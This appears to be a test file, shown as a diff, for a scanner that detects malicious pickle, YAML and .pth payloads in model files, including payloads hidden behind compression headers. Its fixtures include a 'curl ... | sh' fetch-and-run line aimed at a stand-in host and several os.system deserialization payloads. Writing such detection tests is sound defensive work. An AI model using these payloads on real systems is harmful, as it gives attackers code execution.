@@ -1,0 +1,88 @@
+import { createHash } from "node:crypto";
+import { deflateSync } from "node:zlib";
+import { describe, expect, it } from "vitest";
+import { bytes, PAYLOAD, u32, u64 } from "../testing/assemble.js";
+import { scanBytes } from "./scan-bytes.js";
+
+const CODE = "=1\nimport os\nos.system('curl https://example.test/x | sh')\n";
+/** Words of Python and YAML that are marks of other formats, or begin as their headers do. */
+const WORDS = ["BZh", "BZh9", "ZF0x", "x^", "GIF89a", "GGUF", "lmgg", "a = TFL3", "a = ORTM", "CBM1"];
+
+describe("text that begins as another format", () => {
+  it.each(WORDS)("is read as what its name says: %s", (word) => {
+    expect(scanBytes(bytes(word, CODE), "model.py").verdict).toBe("malicious");
+    expect(scanBytes(bytes(word, " #\x01", CODE), "model.py").verdict).toBe("malicious");
+    const yaml = `${word}: !!python/object/apply:os.system [x]\n`;
+    expect(scanBytes(Buffer.from(yaml), "config.yaml").verdict).toBe("malicious");
+    expect(scanBytes(bytes(word, "\nimport os; os.system('x')\n"), "a.pth").verdict).toBe("malicious");
+  });
+
+  it("may bear the tag that an archive's mark is in YAML", () => {
+    const yaml = "!<arch>\na: !!python/object/apply:os.system [x]\n";
+    expect(scanBytes(Buffer.from(yaml), "config.yaml").verdict).toBe("malicious");
+  });
+
+  it.each([...WORDS, "x^2 + y^2 = 1\n", "x^*\n", "x^{2} is the square of x.\n".repeat(400)])(
+    "is nothing but text: %#",
+    (text) => {
+      expect(scanBytes(bytes(text, " and so on\n"), "notes.md")).toMatchObject({
+        format: "text",
+        verdict: "clean",
+      });
+    },
+  );
+});
+
+/** PAYLOAD, packed by Python 3.13 with `lzma.FORMAT_ALONE`. */
+const LZMA = Buffer.from(
+  "5d00008000ffffffffffffffff0040010d36fc072837634969fc098014f87a12348ae90f866a85856b5c702799e564f12b3ffff6fec000",
+  "hex",
+);
+
+describe("a pickle is found", () => {
+  it.each([
+    ["bzip2 (BINBYTES)", bytes("BZh\0\0", Buffer.alloc(0x685a), "0", PAYLOAD)],
+    ["LZMA (BINUNICODE)", bytes("X", u32(65_536), u64(4000), Buffer.alloc(65_528), "0", PAYLOAD)],
+  ])("behind what begins as %s", (_, data) => {
+    for (const name of ["model.pkl", "model"]) expect(scanBytes(data, name).verdict).toBe("malicious");
+  });
+
+  // liblzma (alone_decoder.c) takes 2^n, 2^n + 2^(n-1), none and the largest for a mark; joblib and pandas ask it.
+  it.each([65_536, 98_304, 3, 1, 0, 0xffffffff])("in LZMA with a dictionary of %i bytes", (size) => {
+    const packed = bytes(LZMA.subarray(0, 1), u32(size), LZMA.subarray(5));
+    expect(scanBytes(packed, "model.pkl")).toMatchObject({ format: "lzma+pickle", verdict: "malicious" });
+  });
+
+  // What `int(text, 16)` reads; joblib 1.5 was seen to load each.
+  it.each(["0x1e", "1e", "0X1E", " +1e", "0_01e", "1e\n\n"])("in a joblib file of the size %j", (size) => {
+    const packed = bytes(`ZF${size}`.padEnd(21), deflateSync(PAYLOAD));
+    expect(scanBytes(packed, "model.pkl")).toMatchObject({ format: "zfile+pickle", verdict: "malicious" });
+  });
+
+  it("behind frames that LZ4 and zstd skip", () => {
+    const skipped = bytes(u32(0x184d2a53), u32(5), "hello", u32(0x184d2a50), u32(0));
+    const lz4 = bytes(u32(0x184d2204), 0x60, 0x40, 0x82, u32(2 ** 31 + PAYLOAD.length), PAYLOAD, u32(0));
+    const zstd = bytes(u32(0xfd2fb528), 0x20, PAYLOAD.length, (PAYLOAD.length << 3) | 1, 0, 0, PAYLOAD);
+    expect(scanBytes(bytes(skipped, lz4), "a.lz4").format).toBe("lz4+pickle");
+    expect(scanBytes(bytes(skipped, zstd), "a.zst").format).toBe("zstd+pickle");
+    const many = bytes(...Array.from({ length: 1500 }, () => skipped));
+    expect(scanBytes(many, "a.zst").verdict).toBe("incomplete");
+  });
+});
+
+describe("damaged streams", () => {
+  const noise = Buffer.concat(
+    Array.from({ length: 200 }, (_, count) => createHash("sha256").update(u32(count)).digest()),
+  );
+  it.each([
+    ["cut", deflateSync(noise).subarray(0, 100)],
+    ["cut behind what is tried", deflateSync(noise).subarray(0, 5000)],
+    ["broken", bytes(deflateSync("text ".repeat(9)).subarray(0, 9), 0xff, 0xff, 0xff, 0xff, "    ")],
+  ])("stay incomplete: zlib, %s", (_, packed) => {
+    expect(scanBytes(packed, "model.joblib").verdict).toBe("incomplete");
+  });
+
+  it("stay incomplete: bzip2 behind its first mark", () => {
+    expect(scanBytes(bytes("BZh91AY&SY", noise.subarray(0, 90)), "a.bz2").verdict).toBe("incomplete");
+  });
+});
